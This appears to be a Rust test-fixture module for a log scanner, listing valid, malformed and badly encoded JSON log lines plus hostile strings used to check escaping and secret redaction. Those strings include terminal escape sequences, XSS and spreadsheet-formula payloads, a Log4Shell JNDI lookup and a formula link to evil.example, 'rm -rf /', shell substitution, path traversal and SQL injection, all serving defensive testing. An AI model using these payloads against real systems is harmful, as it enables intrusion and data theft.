//! The corpora: lines of every kind, and texts that want to be more than text.

/// What has to become of a line.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Fate {
    Record,
    /// A record that `--strict` refuses.
    Repaired,
    Malformed,
    Blank,
}

use Fate::{Blank, Malformed, Record, Repaired};

/// Lines by scenario, with their fate. No line holds a newline.
pub(crate) fn lines() -> Vec<(&'static str, Vec<u8>, Fate)> {
    let mut lines: Vec<(&str, Vec<u8>, Fate)> = Vec::new();
    let mut add = |scenario, fate, all: &[&[u8]]| {
        lines.extend(all.iter().map(|line| (scenario, line.to_vec(), fate)));
    };
    add("H1", Record, RIGHT);
    add("H1", Malformed, WRONG);
    add("H2", Repaired, BADLY_ENCODED);
    add("H3", Record, &[br#"{"a":1e999,"line":-1e999}"#, br#"{"timestamp":1e999}"#]);
    add("H4", Repaired, &[br#"{"a":NaN}"#, br#"{"a":[Infinity,-Infinity]}"#, br#"{"ts":NaN}"#]);
    add("H4", Malformed, &[br#"{"a":nan}"#, br#"{"a":-NaN}"#, br#"{"a":Infinit}"#, b"NaN"]);
    for levels in [127, 128, 129, 1000] {
        let fate = if levels <= 128 { Record } else { Malformed };
        let arrays = format!("{{\"a\":{}{}}}", "[".repeat(levels - 1), "]".repeat(levels - 1));
        let objects = "{\"a\":".repeat(levels) + "1" + &"}".repeat(levels);
        let read = arrays.replace("\"a\"", "\"message\"");
        add("H5", fate, &[arrays.as_bytes(), objects.as_bytes(), read.as_bytes()]);
    }
    add("H6", Record, &[br#"{"level":"INFO","level":"ERROR"}"#, br#"{"a":1,"\u0061":2}"#]);
    add("H7", Repaired, &[b"\0{}", b"\0\0\0\0{\"level\":\"INFO\"}"]);
    add("H7", Malformed, &[b"{}\0", b"{\0}", b"{\"a\":\"\0\"}"]);
    add("H8", Record, &[b"{}\r", b"{\"a\":1}\r", b"\r{}", b"{\r}"]);
    add("H8", Malformed, &[b"{}\r{}", b"{\"a\":\"\r\"}"]);
    add("H9", Blank, &[b"", b" ", b"\t \t", b"\r", b" \r\r"]);
    add("H12", Malformed, &[b"[]", b"[{}]", b"1", b"-0.5", b"\"{}\"", b"true", b"null"]);
    add("H13", Malformed, &[b"{}{}", b"{} {}", b"{},", b"{}x", b"{\"a\":1}]", b"{}//"]);
    add("H21", Malformed, &[b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01", b"\x7fELF\x02\x01\x01"]);
    add("H21", Malformed, &[b"\x89PNG\r", b"PK\x03\x04", b"%PDF-1.7", b"\xff\xfe{\0}\0"]);
    lines
}

const RIGHT: &[&[u8]] = &[
    b"{}",
    b" \t{ } \t",
    br#"{"":""}"#,
    br#"{"a":null,"b":true,"c":false}"#,
    br#"{"a":0,"b":-0,"c":1.5,"d":1e5,"e":1E+5,"f":-2.5e-3}"#,
    br#"{"a":123456789012345678901234567890}"#,
    br#"{"a":[],"b":[[]],"c":[1,[2,{"d":3}]]}"#,
    br#"{"a":"\"\\\/\b\f\n\r\t\u0000\u00e9\ud83d\udcf1"}"#,
    "{\"a\":\"é设备📱\u{7f}\u{2028}\u{10ffff}\"}".as_bytes(),
    br#"{ "a" : { "b" : [ 1 , 2 ] } }"#,
    br#"{"level":7,"message":[1],"timestamp":{},"client_id":null}"#,
    br#"{"level":"","message":"","logger":"","module":"","client_id":"","session_id":""}"#,
    br#"{"timestamp":"9999-12-31T23:59:60"}"#,
    br#"{"timestamp":-1}"#,
    br#"{"timestamp":"\u0032026-11-22T06:00:00"}"#,
    br#"{"level":"\u0049NFO"}"#,
    br#"{"logger":"UFOWebSocketHandler","level":"INFO","message":"[WS]  disconnected"}"#,
    br#"{"logger":"UFOWebSocketHandler","message":"[WS] \ud83d\udcf1 Device client  connected"}"#,
    br#"{"logger":"ufo_logscan.alert","level":"CRITICAL","message":"our own"}"#,
    br#"{"logger":"ufo_logscan.probe","ok":"maybe","latency_ms":"fast","status":[]}"#,
    br#"{"logger":"ufo_logscan.probe","ok":false,"latency_ms":-1e300,"status":1e300}"#,
    br#"{"logger":"uvicorn.access","message":"x - \"GET / HTTP/1.1\" 999"}"#,
    br#"{"message":"[Session] Task completed: "}"#,
    br#"{"message":"[Session] Created session  for task: "}"#,
];

const WRONG: &[&[u8]] = &[
    b"{",
    b"}",
    b"{]",
    b"{\"a\"}",
    b"{\"a\":}",
    b"{\"a\":1",
    b"{\"a\":1,",
    b"{\"a\":1,}",
    b"{,\"a\":1}",
    b"{\"a\" 1}",
    b"{\"a\":1 \"b\":2}",
    b"{\"a\"::1}",
    b"{a:1}",
    b"{'a':1}",
    b"{\"a\":'b'}",
    b"{\"a\":[1,]}",
    b"{\"a\":[1",
    b"{\"a\":[1}",
    b"{\"a\":tru}",
    b"{\"a\":True}",
    b"{\"a\":01}",
    b"{\"a\":1.}",
    b"{\"a\":.5}",
    b"{\"a\":+1}",
    b"{\"a\":1e}",
    b"{\"a\":0x1}",
    b"{\"a\":1_000}",
    b"{\"a\":-}",
    b"{\"a\":\"}",
    b"{\"a\":\"\\\"}",
    b"{\"a\":\"\\x41\"}",
    b"{\"a\":\"\\u12\"}",
    b"{\"a\":\"\\u12g4\"}",
    b"{\"a\":\"\t\"}",
    b"{\"a\":1} # comment",
    b"{/**/}",
    b"\xc2\xa0{}",
    b"2026-11-22 06:00:00,000 not a log record",
];

const BADLY_ENCODED: &[&[u8]] = &[
    b"{\"a\":\"\xff\"}",
    b"{\"a\":\"caf\xe9\"}",
    b"{\"\xff\":1}",
    b"{\"a\":\"\xc3\"}",
    b"{\"a\":\"\xed\xa0\xbd\"}",
    b"{\"a\":\"\xf4\x90\x80\x80\"}",
    b"{\"a\":\"\xc0\xaf\"}",
    b"{\"message\":\"\xf0\x9f\x93\"}",
    br#"{"a":"\ud83d"}"#,
    br#"{"a":"\udcf1\ud83d"}"#,
    br#"{"\ud800":1}"#,
    br#"{"message":"\ud83dx","client_id":"\udfff"}"#,
];

/// The value of every secret in [`texts`]; it must not be seen anywhere.
pub(crate) const SECRET: &str = "SECRET-7f3a";

/// Texts that would be more than text if they were printed as they are.
pub(crate) fn texts() -> Vec<String> {
    let controls = (0..32).chain(0x7f..0xa0_u32).filter_map(char::from_u32);
    let around = |c: char| format!("a{c}b");
    let mut texts: Vec<String> = controls.map(around).collect();
    texts.extend(DECEIVERS.chars().map(around));
    texts.extend(STRINGS.iter().map(|&text| text.to_owned()));
    texts.extend(SECRETS.iter().map(|form| form.replace('#', SECRET)));
    texts.push("x".repeat(100_000));
    texts.push("\u{1b}[31m".repeat(5000));
    texts.push("设".repeat(3000));
    texts.push("\u{301}".repeat(500));
    texts
}

/// Characters that hide, join, reorder or break text.
pub(crate) const DECEIVERS: &str = "\u{ad}\u{61c}\u{180e}\u{200b}\u{200c}\u{200d}\u{200e}\
    \u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2060}\u{2066}\u{2067}\
    \u{2068}\u{2069}\u{feff}\u{fffb}\u{e0041}";

const STRINGS: &[&str] = &[
    "",
    " ",
    "\u{1b}[2J\u{1b}[1;1H",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}P+q\u{1b}\\",
    "\u{9b}31m",
    "line\nanother\r\nthird\rover",
    "\n\n[exit 0]\n$ rm -rf /",
    "tab\there",
    "back\u{8}\u{8}space",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "&amp; & &lt;",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+1",
    "-1-1",
    "@SUM(A1)",
    "<!channel> <@U123>",
    "a\nBcc: x@evil.example",
    "quote \" back \\ slash / ' apostrophe",
    "`whoami` $(id) ${HOME} %s %n %x {0} {}",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "{\"level\":\"ERROR\"}",
    "a,b;c|d",
    "(none)",
    "(other)",
    "… and 5 more",
    "👨‍👩‍👧‍👦 👍🏽 🇩🇪 e\u{301}",
    "עברית العربية",
    "Ａ𝟎①",
    "NaN",
    "null",
    "</script><script>alert(1)</script>",
    "</style><style>*{display:none}",
    "</title></table><svg onload=alert(1)>",
    "<!--",
    "]]><![CDATA[",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "url(javascript:alert(1)); expression(alert(1))",
    "\"} 1\nforged_metric{x=\"",
    "# EOF",
    "# TYPE up counter",
    "\",\"forged\":true,\"x\":\"",
    "\\u0000\\",
    "＝HYPERLINK(1)",
    " =1+1",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE logs; --",
    "\u{fffd}\u{ffff}\u{10ffff}",
];

/// Forms of secrets; `#` stands for the value.
const SECRETS: &[&str] = &[
    "GET /ws?token=#",
    "GET /ws?client=1&token=#&x=2",
    "TOKEN=#",
    "access_token: #",
    "{'api_key': '#'}",
    "{\"password\": \"#\"}",
    "Authorization: Bearer #",
    "X-API-Key: #",
    "client_secret=#;",
    "passwd=# next",
    "\"WebSocket /ws?token=#\" [accepted]",
    "\u{1b}[31mtoken=#\u{1b}[0m",
];

#[test]
fn the_corpora_are_what_they_say() {
    assert!(texts().len() > 130);
    assert!(lines().iter().all(|(_, line, _)| !line.contains(&b'\n')));
    for fate in [Record, Repaired, Malformed, Blank] {
        assert!(lines().iter().any(|(.., this)| *this == fate));
    }
}
